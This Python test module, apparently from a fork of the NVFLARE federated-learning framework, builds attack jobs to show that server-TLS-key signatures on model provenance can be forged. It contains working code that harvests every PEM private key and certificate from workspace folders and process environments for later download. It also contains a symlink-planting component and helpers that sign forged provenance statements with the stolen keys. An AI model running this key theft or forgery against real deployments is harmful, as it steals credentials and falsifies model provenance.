# Copyright (c) 2026, the nvflare model fork authors.
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
"""A BYOC job that steals every key and certificate its server process can reach, and forges with them.

``thief_job``: a lead's job (custom code, allowed by FLARE's default ``byoc: any``) whose
server component, when the run starts, reads every file under the server's workspace and
the folder beside it (startup/, local/, other jobs' folders; in POC every kit), its own and
its parent's environment (and files the environment names), keeps whatever holds a PEM
key or certificate in its run folder's ``stolen/`` and lists it in ``stolen/index.json``.
Its submitter gets them back with ``download_job``. ``link_planter_job``: a job whose run
folder, at the end, holds a symlink where its persistor's model was.

``forgeries`` signs, with each stolen key (and the stolen certificate that goes with it),
statements that claim a victim's job produced another file: the genuine statement edited,
and the same with every field but the statement fields of the fork before the
model-signing key removed (what a forger who drops unknown fields would send).
"""

import hashlib
import json
import textwrap
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import serialization

# what `nvflare model verify` says of each kind of signature
WEAKER = (
    "weaker: signed with the server's TLS key, not a dedicated model-signing key; where the server's job processes "
    "can read that key (POC, kits run with the process launcher) any job's code could have signed this statement"
)
STRICT_REFUSAL = (
    "weaker signature refused: strong provenance is required and this one is weaker: signed with the server's TLS "
    "key, not a dedicated model-signing key; where the server's job processes can read that key (POC, kits run with "
    "the process launcher) any job's code could have signed this statement"
)
STRONG = "strong: signed with the server's dedicated model-signing key"
EVIL = b"a model the victim's job never made" * 1000


THIEF = textwrap.dedent(
    """
    import json
    import os

    from nvflare.apis.event_type import EventType
    from nvflare.apis.fl_component import FLComponent

    MARKERS = (b"PRIVATE KEY-----", b"BEGIN CERTIFICATE-----")
    MAX_SIZE = 256 << 10


    class KeyThief(FLComponent):
        def handle_event(self, event_type, fl_ctx):
            if event_type != EventType.START_RUN:
                return
            ws = fl_ctx.get_engine().get_workspace()
            out = os.path.join(ws.get_run_dir(fl_ctx.get_job_id()), "stolen")
            os.makedirs(out, exist_ok=True)
            found, seen = [], set()

            def keep(origin, data):
                name = f"{len(found):03d}.pem"
                with open(os.path.join(out, name), "wb") as f:
                    f.write(data)
                found.append({"from": origin, "file": name})

            def consider(path):
                real = os.path.realpath(path)
                if real in seen or real.startswith(os.path.realpath(out) + os.sep):
                    return
                seen.add(real)
                try:
                    if not os.path.isfile(real) or os.path.getsize(real) > MAX_SIZE:
                        return
                    with open(real, "rb") as f:
                        data = f.read()
                except OSError:
                    return
                if any(m in data for m in MARKERS):
                    keep(path, data)

            root = ws.get_root_dir()
            for top in (root, os.path.dirname(root), ws.get_startup_kit_dir(), ws.get_site_config_dir()):
                for dirpath, dirs, files in os.walk(top):
                    for name in files:
                        consider(os.path.join(dirpath, name))
            for pid in ("self", str(os.getppid())):
                try:
                    with open(f"/proc/{pid}/environ", "rb") as f:
                        env = f.read()
                except OSError:
                    continue
                for item in env.split(b"\\0"):
                    key, _, value = item.partition(b"=")
                    if any(m in value for m in MARKERS):
                        keep(f"env {pid} {key.decode(errors='replace')}", value)
                    elif value.startswith(b"/"):
                        for part in value.split(b":"):
                            consider(part.decode(errors="replace"))
            with open(os.path.join(out, "index.json"), "w") as f:
                json.dump(found, f)
            self.log_info(fl_ctx, f"TEST stole {len(found)} key and certificate files")
    """
)

LINK_PLANTER = textwrap.dedent(
    '''
    import os

    from nvflare.apis.event_type import EventType
    from nvflare.apis.fl_component import FLComponent


    class LinkPlanter(FLComponent):
        """At the end of the run, replace the persistor's model file with a symlink to ``target``."""

        def __init__(self, model, target):
            super().__init__()
            self.model, self.target = model, target

        def handle_event(self, event_type, fl_ctx):
            if event_type != EventType.END_RUN:
                return
            path = os.path.join(fl_ctx.get_engine().get_workspace().get_run_dir(fl_ctx.get_job_id()), self.model)
            tmp = path + ".link"
            os.symlink(self.target, tmp)
            os.replace(tmp, path)
            self.log_info(fl_ctx, f"TEST {path} now links to {self.target}")
    '''
)


def _add(job: Path, module: str, text: str, component: dict) -> Path:
    from model_jobs import add_server_component

    custom = job / "app" / "custom"
    custom.mkdir(parents=True, exist_ok=True)
    (custom / f"{module}.py").write_text(text)
    add_server_component(job, component)
    return job


def add_thief(job: Path) -> Path:
    """The thief as a server component of ``job`` (its code in the job's custom folder)."""
    return _add(job, "key_thief", THIEF, {"id": "thief", "path": "key_thief.KeyThief", "args": {}})


def thief_job(root: Path, name: str = "thief") -> Path:
    from model_jobs import file_model_job

    return add_thief(file_model_job(root, name=name, size_mb=1, train_seconds=0.2))


def link_planter_job(job: Path, model: str, target: str) -> Path:
    return _add(
        job,
        "link_planter",
        LINK_PLANTER,
        {"id": "planter", "path": "link_planter.LinkPlanter", "args": {"model": model, "target": target}},
    )


def stolen_material(download: Path) -> tuple:
    """(keys, certs): every PEM private key and certificate the thief got out, with where it found it."""
    (index,) = Path(download).rglob("stolen/index.json")
    keys, certs = [], []
    for entry in json.loads(index.read_text()):
        data = (index.parent / entry["file"]).read_bytes()
        for block in _pem_blocks(data):
            if b"PRIVATE KEY" in block.splitlines()[0]:
                try:
                    keys.append((entry["from"], serialization.load_pem_private_key(block, password=None)))
                except (ValueError, TypeError):
                    pass
            elif block.startswith(b"-----BEGIN CERTIFICATE-----"):
                try:
                    certs.append((entry["from"], x509.load_pem_x509_certificate(block)))
                except ValueError:
                    pass
    return keys, certs


def _pem_blocks(data: bytes):
    start = 0
    while True:
        begin = data.find(b"-----BEGIN ", start)
        if begin < 0:
            return
        end_marker = data.find(b"-----END ", begin)
        end = data.find(b"-----", end_marker + 9) if end_marker >= 0 else -1
        if end < 0:
            return
        yield data[begin : end + 5]
        start = end + 5


def public_bytes(key_or_cert) -> bytes:
    public = key_or_cert.public_key()
    return public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def cert_for(key, certs):
    """The stolen certificate of ``key`` (None when the thief found none)."""
    mine = public_bytes(key)
    return next((c for _, c in certs if public_bytes(c) == mine), None)


# the statement fields of the fork before the model-signing key (today's fields, as the issue says)
TODAY_FIELDS = (
    "type", "project", "server", "job_id", "job_name", "submitter", "component", "file_name", "format", "size",
    "sha256", "round", "metric_name", "metric_value", "metric_mode", "backfilled", "stored_at", "fork_version",
)  # fmt: skip


def forgeries(genuine_statement: dict, evil: bytes, key, cert_pem: bytes) -> dict:
    """{variant: provenance} claiming ``evil`` is the genuine statement's component, signed with ``key``."""
    from nvflare.apis.utils.model_provenance import sign_statement

    edited = dict(genuine_statement, sha256=hashlib.sha256(evil).hexdigest(), size=len(evil))
    minimal = {k: v for k, v in edited.items() if k in TODAY_FIELDS}
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return {
        "edited": sign_statement(edited, key_pem, cert_pem),
        "today's fields only": sign_statement(minimal, key_pem, cert_pem),
    }


def verify_in_process(path, *args):
    """``nvflare model verify`` run in this process (model_cli.main, what the command runs): (exit code, stdout, stderr)."""
    import contextlib
    import io

    from nvflare.tool.model.model_cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(["verify", str(path), *args])
        except SystemExit as e:
            code = e.code
    return code, out.getvalue(), err.getvalue()
